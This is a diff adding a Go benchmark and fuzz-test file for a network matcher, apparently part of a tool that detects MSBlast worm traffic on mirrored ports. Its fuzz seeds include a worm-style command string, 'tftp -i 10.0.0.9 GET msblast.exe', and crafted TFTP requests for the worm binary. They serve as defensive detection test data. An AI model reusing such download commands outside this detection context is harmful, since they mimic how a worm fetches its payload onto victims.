@@ -1,0 +1,109 @@
+package wire
+
+import (
+	"bytes"
+	"context"
+	"strings"
+	"testing"
+
+	"github.com/gopacket/gopacket/layers"
+
+	"wormsink/evidence"
+	"wormsink/signatures"
+)
+
+// BenchmarkPacket measures the per-frame cost of the common, non-matching
+// traffic of a mirror port, and of a worm request.
+func BenchmarkPacket(b *testing.B) {
+	cases := []struct {
+		name string
+		lt   layers.LinkType
+		data []byte
+	}{
+		{"tcp-http", layers.LinkTypeEthernet, tcpFrame(b, 80, bytes.Repeat([]byte("x"), 1200))},
+		{"tcp-4444-benign", layers.LinkTypeEthernet, tcpFrame(b, 4444, bytes.Repeat([]byte("x"), 1200))},
+		{"udp-dns", layers.LinkTypeEthernet, udp4(b, other, infected, 5353, 53, []byte("\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01"))},
+		{"tftp-legit", layers.LinkTypeEthernet, udp4(b, other, infected, 2000, 69, rrq(1, "pxelinux.0", "octet"))},
+		{"ipv6-udp", layers.LinkTypeRaw, ip6UDP(b, victim6, infected6, 1, 2, []byte("hello"))},
+		{"tftp-msblast", layers.LinkTypeEthernet, udp4(b, victim, infected, 1025, 69, rrq(1, "msblast.exe", "octet"))},
+	}
+	for _, c := range cases {
+		b.Run(c.name, func(b *testing.B) {
+			m := NewMatcher(StaticSet{signatures.Default()}, discard{}, Options{})
+			b.ReportAllocs()
+			b.SetBytes(int64(len(c.data)))
+			for b.Loop() {
+				m.Packet(c.lt, c.data, Meta{Time: baseTime})
+			}
+		})
+	}
+}
+
+type discard struct{}
+
+func (discard) Record(evidence.Event) {}
+
+// FuzzPacket feeds arbitrary frames of every supported link type to the
+// matcher: it must never panic, and a frame must never yield an odd
+// number of TFTP events.
+func FuzzPacket(f *testing.F) {
+	seeds := [][]byte{
+		udp4(f, victim, infected, 1025, 69, rrq(1, "msblast.exe", "octet")),
+		tcpFrame(f, 4444, []byte("tftp -i 10.0.0.9 GET msblast.exe")),
+		frag4(f, victim, infected, 7, 0, true, make([]byte, 16)),
+		frag4(f, victim, infected, 7, 16, false, []byte{1, 2}),
+		ip6UDP(f, victim6, infected6, 1025, 69, rrq(1, "msblast.exe", "octet")),
+	}
+	for _, cf := range craftedFiles(f) {
+		for _, fr := range cf.frames {
+			seeds = append(seeds, fr.data)
+		}
+	}
+	for _, s := range seeds {
+		f.Add(uint8(0), s)
+	}
+	lts := []layers.LinkType{layers.LinkTypeEthernet, layers.LinkTypeLinuxSLL, layers.LinkTypeLinuxSLL2,
+		layers.LinkTypeNull, layers.LinkTypeRaw, layers.LinkTypeIPv4, layers.LinkTypeIPv6, layers.LinkTypeLoop}
+	// One matcher for the whole run, so reassembly state carries over
+	// between inputs as it does on a live wire.
+	var got events
+	m := NewMatcher(StaticSet{signatures.Default()}, &got, Options{AnyPort: true, FragDatagrams: 8, FragBytes: 1 << 16})
+	f.Fuzz(func(t *testing.T, which uint8, data []byte) {
+		got = got[:0]
+		m.Packet(lts[int(which)%len(lts)], data, Meta{Time: baseTime})
+		tftp := 0
+		for _, ev := range got {
+			if ev.File != "" {
+				tftp++
+			}
+			if !ev.Host.IsValid() || !ev.Peer.IsValid() {
+				t.Fatalf("event without hosts: %+v", ev)
+			}
+		}
+		if tftp%2 != 0 {
+			t.Fatalf("%d tftp events", tftp)
+		}
+		if m.defrag.bytes > 1<<16 || len(m.defrag.live) > 8 {
+			t.Fatalf("reassembly over its bounds: %d bytes, %d datagrams", m.defrag.bytes, len(m.defrag.live))
+		}
+	})
+}
+
+// FuzzScan feeds arbitrary files to the pcap/pcapng reader.
+func FuzzScan(f *testing.F) {
+	for _, cf := range craftedFiles(f) {
+		f.Add(encode(f, cf))
+	}
+	var got events
+	m := NewMatcher(StaticSet{signatures.Default()}, &got, Options{})
+	f.Fuzz(func(t *testing.T, data []byte) {
+		got = got[:0]
+		n, err := m.Scan(context.Background(), bytes.NewReader(data), "fuzz")
+		if err != nil && !strings.Contains(err.Error(), "wire: fuzz: ") {
+			t.Fatalf("error does not name the file: %v", err)
+		}
+		if uint64(len(data)) < 16*n {
+			t.Fatalf("%d packets from %d bytes", n, len(data))
+		}
+	})
+}
